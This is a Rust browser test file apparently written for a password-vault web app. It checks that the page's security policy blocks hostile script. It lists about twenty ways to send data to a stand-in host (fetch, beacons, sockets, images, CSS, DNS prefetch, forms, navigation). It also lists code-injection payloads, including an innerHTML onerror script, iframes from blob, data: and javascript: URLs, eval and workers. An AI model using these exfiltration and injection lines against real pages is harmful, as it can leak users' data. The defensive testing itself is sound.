//! Hostile code inside the page tries every way out.

use crate::driver::Page;
use serde_json::json;

/// Ways to send something to another host; each must throw, or leave nothing there.
const WAYS_OUT: &[(&str, &str)] = &[
    ("fetch", "await fetch('http://leak.example/fetch?x=1', { mode: 'no-cors' })"),
    ("beacon", "navigator.sendBeacon('http://leak.example/beacon', 'x')"),
    (
        "request",
        "const r = new XMLHttpRequest(); r.open('POST', 'http://leak.example/xhr'); await new Promise((end) => { r.onloadend = end; r.send('x') })",
    ),
    (
        "socket",
        "await new Promise((end) => { const s = new WebSocket('ws://leak.example/ws'); s.onopen = s.onerror = end })",
    ),
    (
        "event source",
        "await new Promise((end) => { const s = new EventSource('http://leak.example/es'); s.onopen = s.onerror = () => { s.close(); end() } })",
    ),
    (
        "image",
        "await new Promise((end) => { const i = new Image(); i.onload = i.onerror = end; i.src = 'http://leak.example/img' })",
    ),
    ("background", "document.body.style.backgroundImage = 'url(http://leak.example/css)'"),
    (
        "sound",
        "await new Promise((end) => { const a = document.createElement('audio'); a.onerror = end; a.src = 'http://leak.example/audio' })",
    ),
    (
        "style sheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://leak.example/style'; document.head.append(l)",
    ),
    (
        "prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://leak.example/prefetch'; document.head.append(l)",
    ),
    (
        "preconnect",
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://preconnect.leak.example'; document.head.append(l)",
    ),
    (
        "name look-up",
        "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//names.leak.example'; document.head.append(l)",
    ),
    ("font", "await new FontFace('x', 'url(http://leak.example/font)').load()"),
    ("module", "await import('http://leak.example/module.js')"),
    (
        "form",
        "const f = document.createElement('form'); f.action = 'http://leak.example/form'; f.method = 'post'; document.body.append(f); f.submit()",
    ),
    ("new window", "window.open('http://leak.example/open')"),
    (
        "link in a new window",
        "const a = document.createElement('a'); a.target = '_blank'; a.href = 'http://leak.example/blank'; document.body.append(a); a.click()",
    ),
    (
        "ping",
        "const a = document.createElement('a'); a.href = '#'; a.ping = 'http://leak.example/ping'; document.body.append(a); a.click()",
    ),
    ("leaving", "location.href = 'http://leak.example/leave'"),
    ("leaving for good", "location.replace('http://leak.example/replace')"),
];

/// Ways to bring in code, or a place without our policy; each must throw.
const WAYS_IN: &[(&str, &str)] = &[
    ("eval", "(0, eval)('1')"),
    ("new function", "new Function('return 1')()"),
    (
        "markup with a handler",
        "document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'",
    ),
    (
        "markup with a script",
        "document.createElement('div').innerHTML = '<scr' + 'ipt>1</scr' + 'ipt>'",
    ),
    (
        "markup with a foreign link",
        "document.createElement('div').innerHTML = '<a href=\"//leak.example\">x</a>'",
    ),
    ("a policy of its own", "trustedTypes.createPolicy('mine', { createHTML: (text) => text })"),
    ("a worker by address", "new Worker('/sw.js?mine')"),
    ("a worker from a blob", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
    ("a frame", "document.createElement('iframe')"),
    ("a frame of a prefix", "document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe')"),
    (
        "a frame as a document's first element",
        "const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(made.documentElement)",
    ),
    (
        "a frame as a class of its own",
        "customElements.define('x-frame', class extends HTMLIFrameElement {}, { extends: 'iframe' }); document.body.append(new (customElements.get('x-frame'))())",
    ),
    ("a frame by markup", "document.createElement('div').innerHTML = '<iframe></iframe>'"),
    (
        "a frame by parsing",
        "new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe').src",
    ),
    (
        "a frame by cleaned markup",
        "const made = document.createElement('div'); made.setHTML('<iframe></iframe>'); made.querySelector('iframe').src",
    ),
    ("an embedded document", "document.createElement('embed')"),
    ("a window on top", "await documentPictureInPicture.requestWindow()"),
    (
        "a script element",
        "const s = document.createElement('script'); s.src = 'http://leak.example/x.js'",
    ),
    ("another service worker", "await navigator.serviceWorker.register('/start.js')"),
    ("a peer connection", "new RTCPeerConnection()"),
    ("a transport", "new WebTransport('https://leak.example')"),
];

#[test]
fn no_code_in_the_page_can_send_anything_anywhere() {
    let page = Page::new("hostile code tries every way out");
    page.open("/");
    page.see("button", "Create vault");
    for (way, source) in WAYS_OUT {
        // What it throws differs by way; what counts is that nothing arrives.
        page.script_async(&format!(
            "await Promise.race([(async () => {{ {source} }})(), new Promise((end) => setTimeout(end, 1500))])"
        ));
        assert_eq!(page.title(), "Evenkeel", "{way} led away from the page");
        assert_eq!(page.elsewhere(), Vec::<String>::new(), "{way} got out");
    }
    // The last word: by now everything slow has had its time, and the page is still ours.
    page.script_async("await new Promise((end) => setTimeout(end, 1000))");
    assert_eq!(page.elsewhere(), Vec::<String>::new());
}

#[test]
fn no_code_can_be_brought_into_the_page() {
    let page = Page::new("hostile code tries every way in");
    page.open("/");
    page.see("button", "Create vault");
    for (way, source) in WAYS_IN {
        let came = page.script_async(&format!("{source}; return 'CAME IN'"));
        assert_ne!(came, json!("CAME IN"), "{way}");
    }
}

/// Puts a frame of each kind into the page, from a world of its own where nothing of `start.js` holds
/// and only the policy does; tells what ran in any of them.
const FRAMES: &str = r#"(async () => {
    const sheet = `<script>top.postMessage("ran", "*")</script>
        <img src="http://leak.example/framed" onerror="top.postMessage('ran', '*')">`;
    const blob = (type) => URL.createObjectURL(new Blob([sheet], { type }));
    const kinds = [
        ["src", blob("text/html")],
        ["src", blob("image/svg+xml")],
        ["src", blob("application/pdf")],
        ["src", `data:text/html,${encodeURIComponent(sheet)}`],
        ["src", "javascript:top.postMessage('ran', '*')"],
        ["src", "http://leak.example/frame"],
        ["srcdoc", sheet],
    ];
    const [ran, refused] = [[], []];
    let at = "";
    addEventListener("message", () => ran.push(at));
    for (const [attribute, value] of kinds) {
        at = `${attribute} ${value.slice(0, 12)}`;
        const frame = document.createElement("iframe");
        try {
            frame.setAttribute(attribute, value);
        } catch {
            refused.push(attribute);
        }
        document.body.append(frame);
        await new Promise((end) => setTimeout(end, 700));
        frame.remove();
    }
    return { made: kinds.length, refused, ran };
})()"#;

#[test]
fn a_frame_that_was_made_all_the_same_runs_nothing_and_sends_nothing() {
    let page = Page::new("frames of every kind");
    page.open("/");
    page.see("button", "Create vault");
    let tree = page.devtools("Page.getFrameTree", json!({}));
    let own_world = json!({ "frameId": tree["frameTree"]["frame"]["id"], "worldName": "apart" });
    let world = page.devtools("Page.createIsolatedWorld", own_world);
    let evaluate = json!({
        "expression": FRAMES,
        "contextId": world["executionContextId"],
        "awaitPromise": true,
        "returnByValue": true,
    });
    let tried = page.devtools("Runtime.evaluate", evaluate);
    assert_eq!(
        tried["result"]["value"],
        json!({ "made": 7, "refused": ["srcdoc"], "ran": [] }),
        "{tried}"
    );
    assert_eq!(page.title(), "Evenkeel");
    assert_eq!(page.elsewhere(), Vec::<String>::new());
}
